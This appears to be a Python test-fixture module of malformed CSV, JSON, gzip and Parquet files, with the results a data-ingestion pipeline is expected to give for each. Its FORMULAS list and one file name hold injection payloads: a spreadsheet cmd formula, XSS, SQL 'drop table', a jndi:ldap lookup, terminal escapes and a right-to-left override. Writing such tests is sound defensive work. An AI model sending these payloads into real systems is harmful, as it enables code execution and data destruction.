"""Bad input files for the tests: the bytes of each file and the result that ingestion must give."""

from __future__ import annotations

import bz2
import gzip
import io
from datetime import UTC, datetime, timedelta
from typing import NamedTuple

import pyarrow as pa
import pyarrow.parquet as pq

from tests.faults.histories import HEADER

NAMES = tuple(HEADER.split(","))
MARK = "\ufeff"


class Bad(NamedTuple):
    """A bad file and its expected result.

    The result is the number of new events, the reasons of rejected lines with `…` for the values that they quote, or
    why the file is refused, and the number of events with a malformed optional field.
    """

    name: str
    content: bytes
    events: int = 0
    rejected: tuple[str, ...] = ()
    refused: str = ""
    nulled: int = 0


def line(number: int, **fields: str) -> str:
    """Return a valid CSV line with the given fields changed. Different numbers give different lines."""
    values = {
        "event_time": f"2019-10-{1 + number % 28:02} 10:00:00 UTC",
        "event_type": "view",
        "product_id": str(1000 + number),
        "category_id": "7",
        "category_code": "a.b",
        "brand": "acme",
        "price": "5.00",
        "user_id": str(number),
        "user_session": "s",
        **fields,
    }
    return ",".join(values[name] for name in NAMES)


def csv(*lines: str | bytes, header: str | None = HEADER, end: bytes = b"\n") -> bytes:
    texts = [*([] if header is None else [header]), *lines]
    return end.join([text if isinstance(text, bytes) else text.encode() for text in texts] + [b""])


def one_field(name: str, start: int, reason: str, *values: str) -> Bad:
    """Return a file with one line for each bad value of one field, and a valid line at the end."""
    bad = [line(start + at, **{name: value}) for at, value in enumerate(values)]
    return Bad(f"{name}-{start}.csv", csv(*bad, line(start + len(values))), 1, (reason,) * len(values))


def nulled(name: str, start: int, *values: str) -> Bad:
    """Return a file with one line for each bad value of an optional field."""
    lines = (line(start + at, **{name: value if "," not in value else f'"{value}"'}) for at, value in enumerate(values))
    return Bad(f"{name}-{start}.csv", csv(*lines), len(values), nulled=len(values))


def parquet(**columns: pa.Array) -> bytes:
    file = io.BytesIO()
    pq.write_table(pa.table(columns), file)
    return file.getvalue()


def parquet_events(start: int, count: int, **columns: pa.Array) -> bytes:
    good = {
        "event_time": pa.array(["2019-10-05 10:00:00 UTC"] * count),
        "event_type": pa.array(["view"] * count),
        "product_id": pa.array(range(start, start + count), pa.int64()),
        "user_id": pa.array(range(start, start + count), pa.int64()),
    }
    return parquet(**{**good, **columns})


def no_utf8(*values: bytes) -> pa.Array:
    """Return a Parquet text column whose bytes may be invalid UTF-8, as a careless program may write it."""
    plain = pa.array(values, pa.binary())
    return pa.Array.from_buffers(pa.string(), len(values), plain.buffers())


def json_line(number: int, **fields: str) -> str:
    """Return a valid JSON line with the given fields changed. The caller gives the new values as JSON text."""
    values = {
        "event_time": '"2019-10-03T10:00:00Z"',
        "event_type": '"view"',
        "product_id": str(number),
        "user_id": str(number),
        **fields,
    }
    return "{" + ", ".join(f'"{name}": {value}' for name, value in values.items()) + "}"


ABBREVIATED = 'event_time "…" has an abbreviated zone, which several regions use: name the region in source.time_zone'
UNKNOWN_TYPE = 'event_type "…" is unknown: map it in source.event_types, or ignore it'
AS_TEXT = 'Keep ids as written with source.ids = "…"'
SOON = datetime.now(UTC) + timedelta(days=3)
WHOLE_GZIP = gzip.compress(csv(*(line(number) for number in range(5000, 9000))), mtime=0)
WHOLE_PARQUET = parquet_events(9000, 50)
DEEP = 2500

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "+1-1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "'; drop table events; --",
    "${jndi:ldap://example.com/a}",
    "{{7*7}}",
    "\\N",
    "null",
    "\x1b[2J\x1b]0;owned\x07",
    "\u202egnp.exe",
)
"""Dangerous brand names that a spreadsheet, a browser, a database or a terminal could execute."""

CORPUS = (
    Bad("cut-line.csv", csv(line(1), line(2)[:40])[:-1], 1, ("too few fields",)),
    Bad("cut-in-the-user.csv", csv(line(3), line(4).rsplit(",", 1)[0])[:-1], 1, ("too few fields",)),
    Bad("too-many.csv", csv(line(5) + ",more", line(6)), 1, ("too many fields",)),
    Bad("open-quote.csv", csv(line(7, brand='"acme'), line(8)), 1, ("quotes are not balanced",)),
    Bad("quoted-line-end.csv", csv(line(9, brand='"ac\nme"'), line(10)), 1, ("too few fields",) * 2),
    Bad("nul.csv", csv(line(11, brand="ac\0me"), line(12)), 1, ("NUL character in the line",)),
    Bad("latin-1.csv", csv(line(13, brand="café").encode("latin-1"), line(14)), 1, ("not valid UTF-8",)),
    Bad("utf-16.csv", csv(line(15)).decode().encode("utf-16"), refused="no column event_time"),
    Bad("utf-16-be.csv", (MARK + csv(line(16)).decode()).encode("utf-16-be"), refused="no column event_time"),
    Bad("utf-8-mark.csv", MARK.encode() + csv(line(17)), 1),
    Bad("mark-quoted.csv", csv(line(18), header=MARK + '"' + HEADER.replace(",", '","') + '"'), 1),
    Bad("carriage-returns.csv", csv(line(19), line(20), end=b"\r\n"), 2),
    Bad("old-line-ends.csv", csv(line(21), line(22), end=b"\r"), 2),
    Bad("no-last-line-end.csv", csv(line(23))[:-1], 1),
    Bad("empty-lines.csv", csv(line(24), "", "   ", line(25)), 2, ("empty line",) * 2),
    Bad("truncated.csv.gz", WHOLE_GZIP[: len(WHOLE_GZIP) // 2], refused="EOFException"),
    Bad("no-gzip.csv.gz", csv(line(26)), refused="cannot be read"),
    Bad("damaged.csv.gz", WHOLE_GZIP[:2000] + b"\0\1\2\3" + WHOLE_GZIP[2004:], refused="cannot be read"),
    Bad("empty.csv", b"", refused="the file is empty"),
    Bad("empty.parquet", b"", refused="Parquet"),
    Bad("empty.csv.gz", gzip.compress(b"", mtime=0), refused="the file is empty"),
    Bad("two-members.csv.gz", gzip.compress(csv(line(27)), mtime=0) + gzip.compress(csv(line(28), header=None)), 2),
    Bad("header-only.csv", csv()),
    Bad("other-order.csv", csv("5,view,31,2019-10-03", header="user_id,event_type,product_id,event_time"), 1),
    Bad("other-case.csv", csv("5,view,32,2019-10-03", header="User_ID, Event_Type ,PRODUCT_ID,event_time"), 1),
    Bad("no-user.csv", csv("view,33,2019-10-03", header="event_type,product_id,event_time"), refused="no column user_"),
    Bad("no-header.csv", csv(line(39, user_session="ab-cd"), header=None), refused="no column event_time"),
    Bad("twice.csv", csv(line(34) + ",1", header=HEADER + ",user_id"), refused="column user_id appears more than once"),
    Bad("semicolons.csv", csv(line(35).replace(",", ";"), header=HEADER.replace(",", ";")), refused="no column"),
    Bad("texts.parquet", parquet_events(9800, 2, price=pa.array(["2.50", "cheap"])), 2, nulled=1),
    Bad("very-wide.csv", csv(line(38), header=HEADER + "," + ",".join("x" * 5_000)), refused="columns"),
    Bad("wide.csv", csv(line(36), header=HEADER + "," + ",".join("x" * 30_000)), refused="header"),
    Bad("long-header.csv", csv(line(37), header=HEADER + "," + "x" * 100_000), refused="header"),
    Bad("page.csv", b"<!DOCTYPE html>\n<html><body>Not found</body></html>\n", refused="no column"),
    Bad("picture.png", b"\x89PNG\r\n\x1a\n", refused="unknown kind of file"),
    one_field("event_type", 100, UNKNOWN_TYPE, "like", "VIEW", "view;drop", "=view"),
    one_field("event_time", 200, 'event_time "…" is no time in seconds or in ISO 8601', "2019-13-01 00:00:00 UTC",
              "2019-02-29", "0000-00-00", "2019-10-01 25:00:00", "10/01/2019", "now", "epoch", "tomorrow", "12:30",
              "1e9999", "1e-999999999", "1e-500000000"),
    one_field("event_time", 250, ABBREVIATED, "2019-07-01 10:00:00 BST", "2019-07-01 10:00:00 IST",
              "2019-07-01 10:00:00 CST"),
    one_field("event_time", 300, 'event_time "…" is before 2000-01-01', "0001-01-01 00:00:00 UTC", "1969-12-31"),
    one_field("event_time", 350, 'event_time "…" is before 2000 as seconds', "0", "-1"),
    one_field("event_time", 400, 'event_time "…" is in the future', "9999-12-31 23:59:59 UTC",
              f"{SOON:%Y-%m-%d %H:%M:%S} UTC", "4102444800"),
    one_field("event_time", 450, 'event_time "…" is after 2100 as seconds', "99999999999", "1569888000000"),
    one_field("product_id", 500, f'product_id "…" is no whole number of 64 bits. {AS_TEXT}', "9223372036854775808",
              "-9223372036854775809", "1" * 400),
    one_field("product_id", 520, f'product_id "…" is no whole number. {AS_TEXT}', "12.7", "1_000", "0x10", "Infinity",
              "١٢", "12\u00a0", "85123A"),
    one_field("product_id", 540, 'product_id "…" has a leading zero or sign, so as a number it could be another id. '
              f"{AS_TEXT}", "0108775015", "+42", "00"),
    one_field("product_id", 560, 'product_id "…" is a rounded number, so the id is lost', "2.05301E+18", "1E+11"),
    one_field("product_id", 580, "product_id is missing", "NaN", "NULL", "\\N"),
    one_field("product_id", 600, 'product_id "…" is not above 0', "0", "-1", "-9223372036854775808"),
    one_field("user_id", 700, f'user_id "…" is no whole number. {AS_TEXT}', "true", "one"),
    Bad("floats.csv", csv(line(720, product_id="541312140.0"), line(721, user_id="5.4131214E8"),
        line(722, product_id="1e3")), 3),
    nulled("category_id", 800, "2.05301E+18", "2,05301E+18"),
    nulled("price", 900, "Infinity", "1e400", "1e-999999999", "1e-500000000", "10000000000.00", "5€", "$12.99",
           "-0.01", "-5", "-9999999999.99"),
    Bad("no-values.csv", csv(line(1100, price="NaN", brand="(not set)", category_code="NULL", category_id="\\N")), 1),
    Bad("many-reasons.csv", csv(line(40, event_type="", product_id="x", price="-1"), line(41)), 1,
        ("event_type is missing", f'product_id "…" is no whole number. {AS_TEXT}')),
    Bad("field-10mb.csv", csv(line(42), line(43, brand="x" * 10_000_000), line(44)), 2,
        ("line longer than 16384 characters",)),
    Bad("quoted-10mb.csv", csv(line(45, brand='"' + "x" * 10_000_000), line(46)), 1,
        ("line longer than 16384 characters",)),
    Bad("formulas.csv", csv(*(line(50 + at, brand=text) for at, text in enumerate(FORMULAS))), len(FORMULAS)),
    Bad("bad.jsonl", csv("{not json", "[]", "5", json_line(70), "{}" , header=None), 1,
        ("not a JSON object of known form",) * 3 + ("event_time is missing", "event_type is missing",
        "product_id is missing", "user_id is missing, and there is no session")),
    Bad("numbers.jsonl", csv(json_line(71, product_id="9" * 400), json_line(72, price="NaN"),
        json_line(73, price='"-1"'), json_line(74, user_id="1.5"), json_line(75, product_id='"76"'), header=None), 3,
        (f'product_id "…" is no whole number of 64 bits. {AS_TEXT}', f'user_id "…" is no whole number. {AS_TEXT}'),
        nulled=2),
    Bad("several.json", csv(json_line(110) + json_line(111) + " " + json_line(112), json_line(113) + ",",
        "[" + json_line(114) + "," + json_line(115) + "]", "{no json} " + json_line(116), header=None), 7,
        ("not a JSON object of known form",)),
    Bad("braces.jsonl", csv(json_line(117, brand='"} {"', items='[{"a": 1}, {"a": 2}]') + json_line(118), header=None),
        2),
    Bad("deep.jsonl", csv(json_line(77, brand='{"a":' * DEEP + "1" + "}" * DEEP), json_line(78), header=None), 1,
        ("not a JSON object of known form",)),
    Bad("cut.json", csv(json_line(79), json_line(80)[:50], header=None)[:-1], 1, ("not a JSON object of known form",)),
    Bad("array.json", b"[\n" + json_line(81).encode() + b"\n]\n", 1),
    Bad("nul.jsonl", csv(json_line(82, brand='"ac\\u0000me"'), json_line(83), header=None), 1,
        ("NUL character in the line",)),
    Bad("no-parquet.parquet", b"this is no Parquet", refused="Parquet"),
    Bad("empty-but-magic.parquet", b"PAR1PAR1", refused="Parquet"),
    Bad("truncated.parquet", WHOLE_PARQUET[: len(WHOLE_PARQUET) // 2], refused="Parquet"),
    Bad("damaged.parquet", WHOLE_PARQUET[:200] + b"\xff" * 64 + WHOLE_PARQUET[264:], refused="cannot be read"),
    Bad("other-columns.parquet", parquet(a=pa.array([1])), refused="no column event_time"),
    Bad("same-but-for-case.parquet", parquet_events(9100, 1, brand=pa.array(["a"]), Brand=pa.array(["b"])),
        refused="Parquet"),
    Bad("nanoseconds.parquet",
        parquet_events(9200, 1, event_time=pa.array([1_570_000_000_000_000_000], pa.timestamp("ns"))), 1),
    Bad("floats.parquet", parquet_events(9250, 1, user_id=pa.array([541312140.0]), price=pa.array([1e30])), 1,
        nulled=1),
    Bad("no-utf8.parquet", parquet_events(9300, 2, brand=no_utf8(b"caf\xe9", b"cafe")), 1, ("not valid UTF-8",)),
    Bad("field-10mb.parquet", parquet_events(9400, 2, brand=pa.array(["x" * 10_000_000, "x"])), 1,
        ("line longer than 16384 characters",)),
    Bad("nul.parquet", parquet_events(9500, 2, brand=pa.array(["ac\0me", "acme"])), 1, ("NUL character in the line",)),
    Bad("numbers.parquet", parquet_events(9600, 3, price=pa.array([float("nan"), -1.0, 2.5])), 3, nulled=1),
    Bad("odd-names.parquet",
        parquet_events(9900, 2, **{"a`b": pa.array(["x", "y"]), "_metadata": pa.array(["m", "n"])}), 2),
    Bad("nested.parquet", parquet_events(9700, 1, brand=pa.array([{"a": [1, 2]}]), extra=pa.array([[b"\xff"]])), 1),
    Bad("' or 1=1; drop table events; --.csv", csv(line(90)), 1),
    Bad("new\nline\x1b[2J, {a,b} %41 [x] *?.csv", csv(line(91)), 1),
    Bad("café.csv", csv(line(92)), 1),
    Bad("tabs.tsv", csv(line(93).replace(",", "\t"), header=HEADER.replace(",", "\t")), 1),
    Bad("bzip.csv.bz2", bz2.compress(csv(line(94))), 1),
    Bad("zstandard.csv.zst", bytes(pa.compress(csv(line(95)), codec="zstd", asbytes=True)), 1),
    Bad("part-00000", csv(line(96)), 1),
    Bad("part-00001", json_line(97).encode(), 1),
    Bad("at-10:00.csv", csv(line(98)), refused="its name has a colon"),
    Bad("rfc-4180.csv", csv(line(99, brand='"Levi\'s ""501"", blue"')), 1),
)  # fmt: skip
